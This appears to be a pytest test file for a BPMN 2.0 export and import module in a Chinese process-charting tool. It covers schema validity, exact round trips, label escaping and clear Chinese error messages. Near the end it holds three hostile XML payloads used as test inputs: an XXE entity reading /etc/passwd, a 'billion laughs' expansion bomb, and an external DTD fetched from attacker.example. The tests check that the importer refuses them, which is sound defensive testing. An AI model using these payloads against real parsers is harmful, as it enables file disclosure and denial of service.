"""BPMN 2.0: schema-valid export with DI, exact round trip, and safe import."""

from __future__ import annotations

import importlib.util
from functools import cache
from pathlib import Path

import pytest
from lxml import etree

from qingdan.processes.flowchart import (
    MAX_BPMN_BYTES,
    TEMPLATE_KINDS,
    BpmnImportError,
    Edge,
    Graph,
    Lane,
    Node,
    from_bpmn,
    layout,
    template,
    to_bpmn,
)
from qingdan.processes.flowchart.synth import generate, generate_one

NS = {
    "bpmn": "http://www.omg.org/spec/BPMN/20100524/MODEL",
    "bpmndi": "http://www.omg.org/spec/BPMN/20100524/DI",
    "dc": "http://www.omg.org/spec/DD/20100524/DC",
    "di": "http://www.omg.org/spec/DD/20100524/DI",
    "qd": "https://qingdan.example/bpmn",
}


@cache
def _schema() -> etree.XMLSchema:
    """The official OMG BPMN 2.0 XSD set, as shipped by SpiffWorkflow (a dev dependency)."""
    spec = importlib.util.find_spec("SpiffWorkflow")
    assert spec is not None and spec.submodule_search_locations, (
        "SpiffWorkflow (dev dependency) provides the BPMN 2.0 XSD: pip install -e '.[dev]'"
    )
    folder = Path(spec.submodule_search_locations[0]) / "bpmn" / "parser" / "schema"
    for name in ("BPMN20.xsd", "Semantic.xsd", "BPMNDI.xsd", "DC.xsd", "DI.xsd"):
        assert (folder / name).is_file(), name
    return etree.XMLSchema(etree.parse(str(folder / "BPMN20.xsd")))


def _assert_valid(xml: str) -> etree._Element:
    doc = etree.fromstring(xml.encode("utf-8"))
    schema = _schema()
    assert schema.validate(doc), schema.error_log
    return doc


def test_templates_export_to_schema_valid_bpmn():
    for kind in TEMPLATE_KINDS:
        _assert_valid(to_bpmn(template(kind)))


def test_generated_processes_export_to_schema_valid_bpmn_and_round_trip():
    for graph in [*generate(11, 150), generate_one(3, 0, steps=200)]:
        xml = to_bpmn(graph)
        _assert_valid(xml)
        assert from_bpmn(xml) == graph, graph.title


def test_round_trip_keeps_kinds_labels_lanes_time_limits_and_risk_levels():
    graph = template("内部事务")
    back = from_bpmn(to_bpmn(graph))
    assert back == graph
    assert back.legal_limit_days == 20
    assert [n.kind for n in back.nodes] == [n.kind for n in graph.nodes]
    assert next(n for n in back.nodes if n.id == "sign").risk_level == "高"
    assert next(n for n in back.nodes if n.id == "register").time_limit_days == 0.5


def test_export_has_lanes_elements_and_full_diagram_interchange():
    graph = template("行政许可")
    doc = _assert_valid(to_bpmn(graph))
    lanes = doc.findall(".//bpmn:laneSet/bpmn:lane", NS)
    assert [x.get("name") for x in lanes] == [x.name for x in graph.lanes]
    refs = {r.text for x in lanes for r in x.findall("bpmn:flowNodeRef", NS)}
    assert refs == {n.id for n in graph.nodes}
    assert len(doc.findall(".//bpmn:startEvent", NS)) == 1
    assert len(doc.findall(".//bpmn:endEvent", NS)) == 3
    assert len(doc.findall(".//bpmn:exclusiveGateway", NS)) == 3
    flows = doc.findall(".//bpmn:sequenceFlow", NS)
    assert len(flows) == len(graph.edges)
    assert {f.get("name") for f in flows} >= {"是", "否", "需补正", "准予"}
    assert doc.find(".//bpmn:collaboration/bpmn:participant", NS) is not None
    shapes = {s.get("bpmnElement") for s in doc.findall(".//bpmndi:BPMNShape", NS)}
    assert {n.id for n in graph.nodes} | {x.id for x in graph.lanes} <= shapes
    for shape in doc.findall(".//bpmndi:BPMNShape", NS):
        assert shape.find("dc:Bounds", NS) is not None
    edges = doc.findall(".//bpmndi:BPMNEdge", NS)
    assert {e.get("bpmnElement") for e in edges} == {f.get("id") for f in flows}
    assert all(len(e.findall("di:waypoint", NS)) >= 2 for e in edges)
    step = doc.find(".//bpmn:userTask[@id='review']/bpmn:extensionElements/qd:step", NS)
    assert step.get("timeLimitDays") == "10" and step.get("riskLevel") == "高"


def test_parallel_gateways_keep_their_direction():
    doc = _assert_valid(to_bpmn(template("内部事务")))
    gateways = doc.findall(".//bpmn:parallelGateway", NS)
    assert sorted(g.get("gatewayDirection") for g in gateways) == ["Converging", "Diverging"]


def test_ids_that_are_not_xml_names_are_renamed_and_restored():
    graph = Graph(
        "编号测试",
        (Lane("1 科", "科室"), Lane("x", "领导")),
        (
            Node("1", "start", "开始", "1 科"),
            Node("x", "action", "同名的环节和泳道", "1 科", 2),
            Node("受理", "action", "中文编号", "x", 1, "中"),
            Node("e", "end", "结束", "x"),
        ),
        (Edge("1", "x"), Edge("x", "受理"), Edge("受理", "e")),
    )
    xml = to_bpmn(graph)
    _assert_valid(xml)
    assert from_bpmn(xml) == graph


def test_markup_in_labels_is_escaped_in_xml():
    graph = Graph(
        "<流程> & 测试",
        (Lane("a", "A&B"),),
        (
            Node("s", "start", "<script>x</script>", "a"),
            Node("e", "end", 'say "hi" & bye', "a"),
        ),
        (Edge("s", "e", "<是>"),),
    )
    xml = to_bpmn(graph)
    _assert_valid(xml)
    assert "<script>" not in xml
    assert from_bpmn(xml) == graph


def test_import_of_a_plain_modeler_file_without_our_extensions():
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" targetNamespace="x">
  <bpmn:process id="P" name="外部流程" isExecutable="false">
    <bpmn:startEvent id="s"/>
    <bpmn:task id="t" name="办理"/>
    <bpmn:inclusiveGateway id="g" name="是否通过"/>
    <bpmn:endEvent id="e"/>
    <bpmn:sequenceFlow id="f1" sourceRef="s" targetRef="t"/>
    <bpmn:sequenceFlow id="f2" sourceRef="t" targetRef="g"/>
    <bpmn:sequenceFlow id="f3" name="是" sourceRef="g" targetRef="e"/>
    <bpmn:sequenceFlow id="f4" name="否" sourceRef="g" targetRef="t"/>
  </bpmn:process>
</bpmn:definitions>"""
    graph = from_bpmn(xml)
    assert graph.title == "外部流程"
    assert [n.kind for n in graph.nodes] == ["start", "action", "decision", "end"]
    assert [lane.name for lane in graph.lanes] == ["流程"]
    assert all(n.lane == graph.lanes[0].id for n in graph.nodes)
    assert graph.edges[2] == Edge("g", "e", "是")
    layout(graph)  # and it can be drawn


XXE = """<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="D" targetNamespace="x">
  <process id="P"><task id="t" name="&x;"/></process>
</definitions>"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="P">
<task id="t" name="&lol9;"/></process></definitions>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL"><process id="P"/></definitions>"""


@pytest.mark.parametrize(
    "payload", [XXE, BILLION_LAUGHS, EXTERNAL_DTD], ids=["xxe", "laughs", "dtd"]
)
def test_entities_and_dtds_are_refused_not_expanded(payload):
    with pytest.raises(BpmnImportError, match="出于安全原因拒绝导入") as info:
        from_bpmn(payload)
    assert "root:" not in str(info.value)
    with pytest.raises(BpmnImportError):
        from_bpmn(payload.encode("utf-8"))


@pytest.mark.parametrize(
    ("payload", "message"),
    [
        (
            "<definitions xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL'><process>",
            "XML 格式错误",
        ),
        ("<html><body>not bpmn</body></html>", "不是 BPMN 2.0 文件"),
        ("<definitions xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL'/>", "没有流程"),
        ("   ", "文件为空"),
        (
            "<definitions xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL'><process id='p'>"
            "<startEvent id='s'/><sequenceFlow id='f' sourceRef='s' targetRef='nope'/>"
            "</process></definitions>",
            "终点“nope”不存在",
        ),
        (
            "<definitions xmlns='http://www.omg.org/spec/BPMN/20100524/MODEL'><process id='p'>"
            "<task id='t'><extensionElements><qd:step xmlns:qd='https://qingdan.example/bpmn' "
            "timeLimitDays='abc'/></extensionElements></task></process></definitions>",
            "不是有效的数字",
        ),
    ],
    ids=["malformed", "not-bpmn", "no-process", "empty", "missing-ref", "bad-number"],
)
def test_bad_files_give_a_clear_chinese_error(payload, message):
    with pytest.raises(BpmnImportError, match=message):
        from_bpmn(payload)


def test_oversized_input_is_refused_before_parsing():
    payload = b"<definitions>" + b" " * MAX_BPMN_BYTES + b"</definitions>"
    with pytest.raises(BpmnImportError, match="文件过大"):
        from_bpmn(payload)
